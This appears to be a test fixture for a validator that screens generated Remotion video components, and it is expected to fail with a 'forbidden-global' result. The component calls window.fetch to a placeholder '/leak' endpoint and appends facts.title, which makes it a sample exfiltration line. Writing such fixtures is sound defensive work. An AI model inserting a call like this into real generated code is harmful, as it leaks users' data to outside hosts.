// Technique: reaching the page window directly.
// expect: forbidden-global
import React from 'react';
import { AbsoluteFill } from 'remotion';
import type { GeneratedVideoProps } from '@ppr/components';

export default function Video({ facts }: GeneratedVideoProps) {
  window.fetch('http://127.0.0.1:9/leak?' + facts.title);
  return <AbsoluteFill />;
}
